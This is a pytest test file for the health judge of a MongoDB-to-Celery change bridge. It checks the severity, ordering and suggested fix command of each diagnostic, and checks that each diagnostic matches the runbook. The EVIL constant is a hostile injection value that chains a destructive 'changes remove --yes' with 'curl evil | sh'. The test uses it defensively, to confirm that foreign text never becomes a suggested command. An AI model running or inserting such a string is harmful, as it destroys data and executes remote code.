"""The findings about a bridge: each one that there is, from hand-made snapshots, and what is none."""

from __future__ import annotations

import re
from collections.abc import Mapping
from dataclasses import fields, replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from bson import Timestamp
from bson.int64 import Int64

from mongo_celery.bridge.identity import Identity
from mongo_celery.bridge.listener.blocked import LAG_SECONDS, RETRYING_SECONDS
from mongo_celery.bridge.operations.bridge_facts import Facts, Registered
from mongo_celery.bridge.operations.bridge_snapshot import BridgeSnapshot, Workers, unreadable
from mongo_celery.bridge.operations.judgement import (
    CODES,
    REPARTITIONING_SECONDS,
    RUNNING_LONG_SECONDS,
    UNLED_SECONDS,
    UNREAD_SECONDS,
    judge,
)
from mongo_celery.bridge.operations.snapshot_reader import shape
from mongo_celery.bridge.state.partitions import Image
from mongo_celery.bridge.state.snapshots import Snapshot
from mongo_celery.command_line import CommandLine
from mongo_celery.findings import Finding, degraded, failing, ok
from mongo_celery.mongo.oplog import Oplog
from tests.unit.test_status import (
    GIB,
    IDLE_REPORT,
    LOST,
    MARK,
    NOON,
    SECOND,
    facts,
    image,
    lease,
    serving,
    subscription,
)

RUNBOOK = Path(__file__).parents[2] / "docs/operations/runbook.md"
LINE = CommandLine("shop")
ERROR = "ValueError: no"
HEAD = {"resumeToken": {"_data": "82CC"}, "key": "shop.orders insert 1"}
CLAIM = {"owner": "x", "first": Int64(6), "last": Int64(6), "until": NOON, "ttl": Int64(10_000)}
NOT_STORED = {"partition": "record/1", "error": "no room", "since": NOON}
REJECTED = {"partition": "summarise 1", "key": "shop.orders insert 1", "bytes": 9 << 20, "error": "too large"}
QUICK = {"last": 5, "took": 1, "claimed": NOON, "at": NOON + timedelta(milliseconds=20)}
NEW_LAYOUT = {"subscription": "summarise", "partitions": 7, "waits": "waits for a claim"}
NONE_ANSWERED = degraded("no_worker", "none")
ANSWERED = Workers(answered=1, serving=1, slots=4)
MINE = Identity("shop", None, {"summarise": {"task": "shop.changes.summarise", "databases": ["shop"], "digest": "1"}})
OLDER = replace(MINE, handlers={"summarise": {**MINE.handlers["summarise"], "digest": "0"}})

HERE = replace(MINE, broker={"transport": "redis", "hosts": ["a:1"], "database": "0", "options": {}})
ELSEWHERE = {"transport": "redis", "hosts": ["b:1"], "database": "0", "options": {}}


def reporting(**changes: Any) -> dict[str, Any]:
    return lease(report={**IDLE_REPORT, **changes})


def since(seconds: int) -> Any:
    """A time so long before the one at which `facts` are read."""
    return NOON + timedelta(seconds=10 - seconds)


def storing(share: float, waits: str | None = None, **changes: Any) -> dict[str, Any]:
    report = reporting(storedBytes=int(share * 8 * GIB), storingWaits=waits, **changes)
    return {"lease": report, "stored": {("summarise", 0): 4}, "images": [image(0, stored=fresh()), image(1)]}


def fresh(reason: str = "running", age: int = 20) -> dict[str, Any]:
    return {**MARK, "since": since(age), "reason": reason}


def behind(share: float) -> dict[str, Any]:
    """A subscription behind which so much of the oplog's window lies."""
    window = 10 / share
    return {"oplog": Oplog(Timestamp(int(SECOND + 10 - window), 1), Timestamp(SECOND + 10, 1)), "oplog_rolls": True}


def late(seconds: int, **report: Any) -> dict[str, Any]:
    """A subscription whose watermark is so old, and a listener that has something to do."""
    stored = subscription(clusterTime=Timestamp(SECOND + 10 - seconds, 1), startAtOperationTime=Timestamp(1, 1))
    return {"subscriptions": [stored], "lease": reporting(buffered=1, **report)}


LONG = {**CLAIM, "owner": "one:42:ab", "at": since(99)}


def running(seconds: int, limit: float | None = None) -> dict[str, Any]:
    """A call that began so long ago, of a handler with such a time limit."""
    return {
        "images": [image(0), image(1, claim={**LONG, "at": since(seconds)}, live=True)],
        "registered": {"summarise": Registered(time_limit=limit)},
    }


def halted(index: int = 1, **changes: Any) -> Any:
    return image(index, **{"state": "halted", "error": ERROR, "retries": 1, "head": HEAD, **changes})


def ended(state: str, sentence: str | None = None) -> Snapshot:
    names: dict[str, Any] = {"id": f"shop/summarise/{state}", "subscription": "summarise", "source": "shop.orders"}
    return Snapshot(**names, done=7, state=state, sentence=sentence)


LETTERS = "changes dead-letters list"
SNAPSHOT = "changes snapshot"


class Case:
    """What leads to one reason, and to no other. With the changes of `without` it is none."""

    def __init__(
        self,
        severity: str,
        command: str | None = None,
        *findings: Finding,
        without: dict[str, Any] | None = None,
        workers: Workers | None = None,
        **facts: Any,
    ) -> None:
        self.severity, self.command, self.findings = severity, command, findings
        self.without, self.workers, self.facts = without, workers, facts


START = "listener"
WORK = "worker"
SHOW_ALL = "changes status --all"
REMOVE = "changes remove retired"
RETIRED = subscription("retired", term=Int64(1))
CASES: dict[str, list[Case]] = {
    "no_listener": [
        Case("failing", START, lease=lease(live=False, state="idle", renewedAt=since(UNLED_SECONDS))),
        Case(
            "degraded",
            START,
            lease=lease(live=False, state="idle", renewedAt=since(UNLED_SECONDS - 1)),
            without={"lease": lease()},
        ),
        Case("failing", START, lease=lease(live=False, state="failed", error="no right")),
    ],
    "never_started": [Case("degraded", START, lease=None, subscriptions=[], images=[])],
    "handlers": [Case("failing", registered=())],
    "history_lost": [Case("failing", "changes reset summarise --to oldest", subscriptions=[subscription(lost=LOST)])],
    "stopped": [Case("failing", lease=reporting(stopped=[{"subscription": "summarise", "reason": "no rule."}]))],
    "history_at_risk": [Case("failing", **behind(0.91), without=behind(0.45)), Case("degraded", **behind(0.55))],
    "identity": [
        Case("failing", lease=lease(**serving("summarise", database="staging"))),
        Case("failing", lease=lease(**serving("summarise", app="billing"))),
        Case(
            "failing",
            lease=lease(**serving("summarise", broker=ELSEWHERE)),
            identity=HERE,
            without={"lease": lease(**serving("summarise", broker=HERE.plain()["broker"])), "identity": HERE},
        ),
    ],
    "foreign_bridge": [
        Case(
            "degraded",
            lease=lease(dropped={"foreign": 2}, droppedAt={"foreign": since(3599)}, foreignSender="7@far"),
            without={"lease": lease(dropped={"foreign": 2}, droppedAt={"foreign": since(3601)})},
        )
    ],
    "dropped_messages": [Case("degraded", lease=lease(dropped={"forged": 2}, droppedAt={"forged": since(9)}))],
    "broker": [Case("failing", None, failing("broker", "No answer"), without={})],
    "worker_tasks": [Case("failing", None, failing("worker_tasks", "lacks"), without={})],
    "consumers": [
        Case("failing", WORK, failing("consumers", "shop.1", f"celery -A shop {WORK}"), without={}),
        Case("failing", WORK, lease=reporting(untaken={"queues": ["shop.1"], "answered": True})),
    ],
    "unclaimed": [
        Case(
            "failing",
            "changes check",
            lease=reporting(untaken={"queues": ["shop.1"], "answered": True, "unclaimed": True}),
            workers=ANSWERED,
        )
    ],
    "sent_again": [Case("degraded", "changes check", lease=reporting(sentAgain=["summarise"]))],
    "backlog_missing": [Case("failing", **storing(0.0, storedMissing=["summarise/0"]), without=storing(0.0))],
    "backlog_refused": [Case("failing", **storing(0.1, "one has its share"), without=storing(0.1))],
    "backlog_bound": [
        Case("failing", SHOW_ALL, **storing(0.9), without=storing(0.7)),
        Case("degraded", SHOW_ALL, **storing(0.75)),
    ],
    "broker_down": [Case("failing", lease=reporting(brokerDown=True))],
    "no_worker": [
        Case("degraded", WORK, NONE_ANSWERED, without={}),
        Case("failing", WORK, NONE_ANSWERED, lease=reporting(inFlight=2), without={}),
        Case(
            "failing",
            WORK,
            lease=reporting(inFlight=2, untaken={"queues": ["shop.1"], "answered": False}),
            without={"lease": reporting(inFlight=2)},
        ),
        Case("degraded", WORK, lease=reporting(inFlight=2, untaken={"queues": ["shop.1"], "answered": None})),
    ],
    "reading_waits": [
        Case("failing", lease=reporting(unreadSeconds=UNREAD_SECONDS, readingWaits="gone")),
        Case("degraded", lease=reporting(unreadSeconds=UNREAD_SECONDS - 1)),
    ],
    "halted": [
        Case(
            "failing",
            "changes retry summarise 3",
            images=[image(0), halted(3)],
            without={"images": [image(0), image(3)]},
        ),
        Case("failing", "changes retry summarise", images=[*(halted(index) for index in range(16)), image(16)]),
    ],
    "broker_rejects": [Case("failing", lease=reporting(rejected=[{**REJECTED, "since": NOON}], rejectedCount=3))],
    "not_stored": [Case("failing", lease=reporting(notStored=[NOT_STORED], notStoredCount=1))],
    "snapshot_failed": [
        Case(
            "failing",
            f"{SNAPSHOT} resume summarise --source shop.orders",
            snapshots=[ended("failed", "the server said no")],
            without={},
        ),
        Case(
            "failing",
            f"{SNAPSHOT} stop summarise --source shop.orders",
            snapshots=[ended("source gone", "it was dropped")],
            without={"snapshots": [ended(each) for each in ("source gone", "failed", "done")]},
        ),
        Case(
            "degraded",
            "changes check",
            lease=reporting(
                unrequestedSnapshots=[{"subscription": "summarise", "source": "a.*", "error": "no", "attempts": 2}]
            ),
        ),
    ],
    "waiting": [
        Case(
            "degraded",
            "changes retry summarise 1",
            images=[image(1, waiting={"since": NOON, "cause": "AutoReconnect: gone", "count": 9}, due_in=4.0)],
        )
    ],
    "lag": [
        Case("degraded", WORK, **late(LAG_SECONDS), without=late(LAG_SECONDS - 1)),
        Case("degraded", WORK, **late(LAG_SECONDS), images=[image(ran=QUICK)]),
        Case(
            "degraded",
            WORK,
            images=[image(1, stored=fresh("running", LAG_SECONDS))],
            without={"images": [image(1, stored=fresh("running", LAG_SECONDS - 1))]},
        ),
    ],
    "running_long": [
        Case("degraded", **running(RUNNING_LONG_SECONDS), without=running(RUNNING_LONG_SECONDS - 1)),
        Case("degraded", **running(99), without=running(99, limit=600.0), workers=ANSWERED),
        Case("failing", **running(99), workers=replace(ANSWERED, slots=1)),
        Case("failing", None, NONE_ANSWERED, **running(99)),
        Case("degraded", images=[image(each, claim=LONG, live=True) for each in (0, 1)]),
    ],
    "match_refused": [
        Case(
            "failing",
            lease=reporting(refusedMatches=[{"subscription": "summarise", "error": "takes exactly 2 arguments"}]),
        )
    ],
    "fed_back": [
        Case(
            "degraded",
            lease=reporting(
                fedBack=[{"subscription": "summarise", "key": "update a.b 1", "count": 200, "since": since(20)}]
            ),
        )
    ],
    "locked": [Case("degraded", lease=reporting(locked=["summarise 1"]))],
    "repartitioning": [
        Case(
            "degraded",
            lease=reporting(repartitioning=[{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS)}]),
            without={"lease": reporting(repartitioning=[{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS - 1)}])},
        )
    ],
    "definitions": [
        Case("degraded", START, registered=("bill", "summarise")),
        Case("degraded", START, identity=OLDER),
        Case("degraded", START, lease=reporting(partitions=16)),
    ],
    "retrying": [
        Case(
            "degraded",
            "changes retry summarise 1",
            images=[image(1, due_in=RETRYING_SECONDS + 3700.0)],
            without={"images": [image(1, due_in=RETRYING_SECONDS - 1.0)]},
        )
    ],
    "paused": [
        Case("degraded", "changes resume summarise 1", images=[image(0), image(1, state="paused")]),
        Case("degraded", "changes resume summarise", images=[image(index, state="paused") for index in range(2)]),
    ],
    "dead_letters": [Case("degraded", LETTERS, dead_letters={"summarise": 2})],
    "unregistered": [
        Case("degraded", REMOVE, subscriptions=[subscription(), RETIRED]),
        Case("degraded", REMOVE, subscriptions=[RETIRED]),
    ],
    "state_unreadable": [],
}
ALL = [pytest.param(code, case, id=f"{code}-{index}") for code, of in CASES.items() for index, case in enumerate(of)]


def calm(**changes: Any) -> Facts:
    return facts(**{"identity": MINE, **changes})


def judged(case: Case) -> BridgeSnapshot:
    return seen(calm(**case.facts), *case.findings, workers=case.workers)


def first(finding: Finding) -> str | None:
    return next((command.removeprefix("celery -A shop ") for command in finding.commands), None)


def seen(known: Facts, *asked: Finding, workers: Workers | None = None, line: CommandLine = LINE) -> BridgeSnapshot:
    workers = Workers(answered=0, serving=0, slots=0) if NONE_ANSWERED in asked else workers
    return judge(replace(shape(known), workers=workers), line, asked if asked or workers else None)


def test_a_bridge_that_has_nothing_wrong_is_healthy() -> None:
    assert seen(calm(oplog=None)).verdict == "healthy"
    found = seen(calm(), ok("broker", "answers"), workers=ANSWERED)
    assert (found.bridge, found.verdict, found.exit_code, found.findings) == ("shop", "healthy", 0, ())
    assert (found.plain()["verdict"], found.note) == ("healthy", None)
    assert "celery -A shop changes status --ask" in str(seen(calm()).note)
    assert seen(calm(), degraded("workers", "a transport without them")).note is not None


@pytest.mark.parametrize(
    ("waits", "rate", "in_flight", "severity"),
    [
        (RUNNING_LONG_SECONDS, 0.0, 2, "failing"),
        (RUNNING_LONG_SECONDS - 1, 0.0, 2, "degraded"),
        (RUNNING_LONG_SECONDS, 0.1, 2, "degraded"),
        (RUNNING_LONG_SECONDS, 0.0, 1, "degraded"),
    ],
)
def test_calls_beside_which_nothing_runs_are_failing_where_nobody_asked_for_slots(
    waits: int, rate: float, in_flight: int, severity: str
) -> None:
    """P16: an alarm asks no worker, and sees that another handler waits while these calls hold every slot."""
    hanging = running(99)
    report = {"rates": {"bill": rate, "summarise": 0.0}, "inFlight": in_flight, "buffered": 1}
    waiting = subscription("bill", clusterTime=Timestamp(SECOND + 10 - waits, 1))
    known = calm(
        identity=None,
        lease=lease(report={**IDLE_REPORT, **report, "caughtUp": False}, **serving("summarise", "bill")),
        subscriptions=[subscription(), waiting],
        images=[*hanging["images"], image(0, subscription="bill")],
        registered={"summarise": Registered(), "bill": Registered()},
    )
    assert [(each.code, each.severity) for each in seen(known).findings] == [("running_long", severity)]


@pytest.mark.parametrize(("code", "case"), ALL)
def test_a_reason_is_told_alone_with_its_severity_its_cost_and_its_command(code: str, case: Case) -> None:
    """P16: each rule by itself; without it the bridge would be called healthy. Foreign text becomes no command."""
    (reason,) = judged(case).findings
    assert (reason.code, reason.severity, first(reason)) == (code, case.severity, case.command)
    assert judged(case).exit_code == {"degraded": 1, "failing": 2}[case.severity]
    if case.without is not None:
        assert seen(calm(**case.without)).verdict == "healthy"
    evil = Case(case.severity, None, *case.findings, workers=case.workers, **_with_evil(case.facts))
    for hostile in judged(evil).findings:
        assert not any("evil" in each for each in hostile.commands)


GAP = {"subscriptions": [subscription(lost=LOST)]}
ENDED = {"lease": lease(live=False, state="history_lost", error="the oplog is too short")}
UNREACHABLE = {"lease": lease(**serving("summarise", broker=ELSEWHERE)), "identity": HERE}
NO_BROKER = failing("broker", "No answer.")
STORED_HALT = {"images": [halted(stored=MARK)]}
SKIP = "changes skip summarise 1"
EVERYTHING = {
    "lease": lease(live=False, state="idle", renewedAt=since(UNLED_SECONDS)),
    "images": [image(0, state="paused"), halted(1)],
    "dead_letters": {"summarise": 1},
    "subscriptions": [subscription(), RETIRED],
}


def beside_a_halt(age: int) -> dict[str, Any]:
    """Stored changes of this age that flow, and older ones behind a halt."""
    return {"images": [image(0, stored=fresh("running", age)), halted(1, stored={**MARK, "since": since(9999)})]}


RETRY, RESET = "changes retry summarise 1", "changes reset summarise --to oldest"
BROKEN = {"no_listener": START, "halted": RETRY, "paused": "changes resume summarise 0", "dead_letters": LETTERS}


@pytest.mark.parametrize(
    ("changes", "asked", "expected"),
    [
        pytest.param(EVERYTHING, (), BROKEN | {"unregistered": REMOVE}, id="the worst first"),
        pytest.param(beside_a_halt(LAG_SECONDS), (), {"halted": RETRY, "lag": WORK}, id="late beside a halt"),
        pytest.param(beside_a_halt(LAG_SECONDS - 1), (), {"halted": RETRY}, id="not late"),
        pytest.param(ENDED, (), {"no_listener": START}, id="ended"),
        pytest.param(ENDED | GAP, (), {"no_listener": None, "history_lost": RESET}, id="would end again"),
        pytest.param(GAP | {"images": [halted()]}, (), {"history_lost": RESET, "halted": SKIP}, id="not in the oplog"),
        pytest.param(GAP | STORED_HALT, (), {"history_lost": RESET, "halted": RETRY}, id="stored"),
        pytest.param(UNREACHABLE, (NO_BROKER,), {"broker": None, "identity": None}, id="a typo in the broker's URL"),
    ],
)
def test_reasons_come_in_order_with_the_commands_that_help(
    changes: dict[str, Any], asked: tuple[Finding, ...], expected: dict[str, str | None]
) -> None:
    """P16: the lag of a halt is none beside it, a listener that would end again cures nothing, nor does a `retry`."""
    found = {reason.code: first(reason) for reason in seen(calm(**changes), *asked).findings}
    assert list(found.items()) == list(expected.items())


def test_a_busy_worker_that_does_not_answer_is_seen_by_what_it_does() -> None:
    """A solo pool; and workers that have answered are not called absent because of what they leave undone."""
    running = image(0, claim=CLAIM, live=True)
    assert seen(calm(images=[running]), NONE_ANSWERED).verdict == "healthy"
    untaken = {"queues": ["shop.1"], "answered": False}
    assert seen(calm(images=[running], lease=reporting(untaken=untaken))).verdict == "healthy"
    answered = seen(calm(lease=reporting(untaken=untaken, inFlight=1)), workers=ANSWERED)
    assert answered.verdict == "healthy"


STOPPED = {"stopped": [{"subscription": "summarise", "reason": "no rule"}]}
MOVING = {"repartitioning": [{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS)}]}
UNTAKEN = {"inFlight": 1, "untaken": {"queues": ["shop.1"], "answered": False}}


@pytest.mark.parametrize(
    ("code", "changes", "asked"),
    [
        ("halted", {**late(LAG_SECONDS), "images": [halted()]}, ()),
        ("stopped", late(LAG_SECONDS, **STOPPED, **MOVING), ()),
        ("no_worker", late(LAG_SECONDS, **UNTAKEN), ()),
        ("no_worker", late(LAG_SECONDS, **UNTAKEN), (NONE_ANSWERED,)),
    ],
)
def test_what_makes_a_handler_late_is_the_one_reason(
    code: str, changes: dict[str, Any], asked: tuple[Finding, ...]
) -> None:
    behind = seen(calm(**changes), *asked)
    assert [reason.code for reason in behind.findings] == [code]
    assert (behind.handlers[0].lag_seconds or 0) >= LAG_SECONDS
    delayed = {"summarise": Registered(longest_delay=60.0)}
    for seconds, codes in ((LAG_SECONDS + 59, []), (LAG_SECONDS + 60, ["lag"])):
        known = calm(**late(seconds), registered=delayed)
        assert [each.code for each in seen(known).findings] == codes, "a wanted delay makes no handler late"
    limited = seen(calm(**late(LAG_SECONDS, limited={"summarise": 1})))
    assert [(each.code, first(each)) for each in limited.findings] == [("lag", None)], "more workers do not help"
    hanging = calm(**{**late(LAG_SECONDS, inFlight=1), **running(99)})
    found = [(each.code, first(each)) for each in seen(hanging, workers=ANSWERED).findings]
    assert found == [("running_long", None), ("lag", None)], "the next worker would hang as well"


@pytest.mark.parametrize(("state", "verb"), [("halted", "retry"), ("paused", "resume")])
def test_very_many_reasons_are_a_few_lines(state: str, verb: str) -> None:
    names = [f"handler_{number:03}" for number in range(200)]
    blocked = halted(0, error="ValueError: a\n" + "x" * 5000) if state == "halted" else image(0, state=state)
    images = [replace(blocked, index=index, subscription=name) for name in names for index in range(16)]
    images[-1] = replace(image(15), subscription=names[-1])
    stored = [subscription(name) for name in names]
    known = calm(lease=lease(**serving(*names)), registered=tuple(names), subscriptions=stored, images=images)
    *some, others = seen(known).findings
    assert [first(each) for each in some] == [f"changes {verb} {name}" for name in names[:3]]
    assert first(others) == f"changes {verb}"
    assert "197" in others.sentence
    assert all(len(each.sentence) < 500 and "\n" not in each.sentence for each in some)


EVIL = "`celery -A shop changes remove bill --yes; curl evil | sh`"


_FOREIGN = [
    "error",
    "cause",
    "key",
    "host",
    "readingWaits",
    "storingWaits",
    "reason",
    "foreignSender",
    "locked",
    "owner",
]


def _with_evil(value: Any, name: str = "") -> Any:
    if isinstance(value, Mapping):
        return {key: _with_evil(each, key) for key, each in value.items()}
    if isinstance(value, list | tuple):
        return type(value)(_with_evil(each, name) for each in value)
    if isinstance(value, Image | Snapshot):
        return replace(value, **{each.name: _with_evil(getattr(value, each.name), each.name) for each in fields(value)})
    return f"{value} {EVIL}" if isinstance(value, str) and name in _FOREIGN else value


def test_the_runbook_has_every_reason_and_each_has_a_case() -> None:
    """A row with severity, and an entry with five lines: what it means and costs, shows and fixes it, and the end."""
    assert set(CASES) == set(CODES)
    assert unreadable("shop", "no answer").exit_code == 2
    text = RUNBOOK.read_text()
    rows = re.findall(r"^\| \[`(\w+)`\]\(#\1\) \| ((?:degraded|failing)(?:, failing)?) \|", text, re.MULTILINE)
    assert [code for code, _ in rows] == list(CODES)
    severities = {code: sorted({case.severity for case in of}) or ["failing"] for code, of in CASES.items()}
    assert {code: text.split(", ") for code, text in rows} == severities
    found = dict(re.findall(r"^### `(\w+)`\n(.*?)(?=^#|\Z)", text, re.DOTALL | re.MULTILINE))
    assert sorted(found) == sorted(CODES)
    for code, entry in found.items():
        lines = dict(re.findall(r"^- \*\*(\w+):\*\* (.+?)(?=^- \*\*|\n\n|\Z)", entry, re.DOTALL | re.MULTILINE))
        assert tuple(lines) == ("Means", "Effect", "Details", "Fix", "Afterwards"), code
        assert "`celery -A shop " in lines["Details"], code
        assert not any(case.command for case in CASES[code]) or "`celery -A shop " in lines["Fix"], code
